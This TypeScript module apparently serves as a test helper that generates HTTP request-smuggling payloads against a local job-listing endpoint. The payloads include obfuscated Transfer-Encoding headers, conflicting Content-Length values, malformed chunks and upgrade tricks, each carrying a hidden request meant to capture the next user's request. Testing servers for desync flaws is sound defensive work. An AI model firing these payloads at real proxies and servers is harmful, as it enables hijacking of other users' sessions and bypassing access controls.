const jobs = '/v1/website/job/get-all-jobs';
const chunked = 'Transfer-Encoding: chunked';
const websocket = ['Connection: Upgrade', 'Upgrade: websocket'];

/** Headers that also announce chunks, or seem to, in a POST with a body of four bytes. */
const encodings = [
  chunked,
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: "chunked"',
  `${chunked}\r\nTransfer-Encoding: x`,
  `Transfer-Encoding: x\r\n${chunked}`,
  'Transfer_Encoding: chunked',
  'TRANSFER-ENCODING: CHUNKED',
  'Transfer-Encoding:\r\n chunked',
  'X-A: b\r\n Transfer-Encoding: chunked',
  'X-A: b\nTransfer-Encoding: chunked',
  'X-A: b\rTransfer-Encoding: chunked',
  'Transfer-Encoding: chu\0nked',
];

/** The beginning of a chunked body. */
const chunks = [
  '0x0\r\n\r\n',
  '+0\r\n\r\n',
  '10000000000000000\r\n',
  '1\r\nx\n0\r\n\r\n',
  '0\r\nContent-Length: 9\r\n\r\n',
];

/** The lines of a head, with the header of a host and the empty line at the end. */
function head(start: string, ...headers: string[]): string {
  return [start, 'Host: localhost', ...headers, '', ''].join('\r\n');
}

/** A request that the hidden one follows directly. */
const heads = [
  head(`GET ${jobs} HTTP/1.1`),
  head(`HEAD ${jobs} HTTP/1.1`),
  head(`POST ${jobs} HTTP/1.1`, 'Content-Length: 0'),
  head(
    `GET ${jobs} HTTP/1.1`,
    'Connection: Upgrade, HTTP2-Settings',
    'Upgrade: h2c',
    'HTTP2-Settings: AAMAAABkAAQAAP__',
  ),
  head(
    `GET ${jobs} HTTP/1.1`,
    ...websocket,
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
  ),
  head(`GET ${jobs} HTTP/1.0`, 'Connection: keep-alive'),
  head(`GET ${jobs} HTTP/2.0`),
  head('CONNECT localhost:4000 HTTP/1.1'),
  head(`GET ${jobs} HTTP/1.1`, 'Host: other.example'),
  head(`GET ${jobs}?a=%0d%0aContent-Length:%205 HTTP/1.1`),
  `GET ${jobs}\r\n`,
];

/**
 * Requests that two servers may read differently, as the bytes of their connection. Each carries
 * `hidden`: an incomplete request that would absorb the next visitor's request (RFC 9112, 11.2).
 */
export function createAmbiguousRequests(hidden: string) {
  const size = hidden.length;
  const length = `Content-Length: ${size}`;
  const chunk = `${size.toString(16)}\r\n${hidden}\r\n`;
  const withBody = (method: string, ...headers: string[]) =>
    head(`${method} ${jobs} HTTP/1.1`, ...headers) +
    (headers.includes(chunked) ? `${chunk}0\r\n\r\n` : hidden);
  const post = (...headers: string[]) => head(`POST ${jobs} HTTP/1.1`, ...headers);
  const inChunks = withBody('POST', chunked);
  return {
    /** Requests whose method has no body. */
    withUnexpectedBody: ['GET', 'HEAD', 'DELETE', 'OPTIONS'].flatMap((method) => [
      withBody(method, chunked),
      withBody(method, length),
      withBody(method, 'Connection: transfer-encoding', chunked),
      withBody(method, length, 'Connection: content-length'),
    ]),
    others: [
      withBody('PUT', chunked),
      withBody('POST', length, 'Connection: content-length'),
      withBody('POST', length, 'Connection: keep-alive, Content-Length'),
      withBody('POST', 'Connection: transfer-encoding', chunked),
      withBody('GET', 'Content-Length : 5'),
      withBody('POST', 'Content-Length: 4', length),
      withBody('POST', `Content-Length: 4, ${size}`),
      withBody('POST', `Content-Length: +${size}`),
      withBody('POST', 'Content-Length: -1'),
      withBody('POST', 'Content-Length: 0x4'),
      withBody('POST', ...websocket, chunked),
      withBody('GET', 'Expect: 100-continue', chunked),
      withBody('GET', chunked).replace(jobs, `http://other.example${jobs}`),
      withBody('OPTIONS', chunked).replace(jobs, '*'),
      inChunks.replace('HTTP/1.1', 'HTTP/1.0'),
      inChunks.replaceAll('\r\n', '\n'),
      inChunks.replace(/\r\n(\w+)\r\n/, '\r\n$1;a=b\r\n'),
      `${post(chunked)}2;\nxx\r\n${chunk}0\r\n\r\n`,
      post(chunked, 'Content-Length: 4') + chunk,
      ...encodings.map((line) => `${post('Content-Length: 4', line)}0\r\n\r\n${hidden}`),
      ...chunks.map((begin) => post(chunked) + begin + hidden),
      ...heads.map((start) => start + hidden),
    ],
  };
}
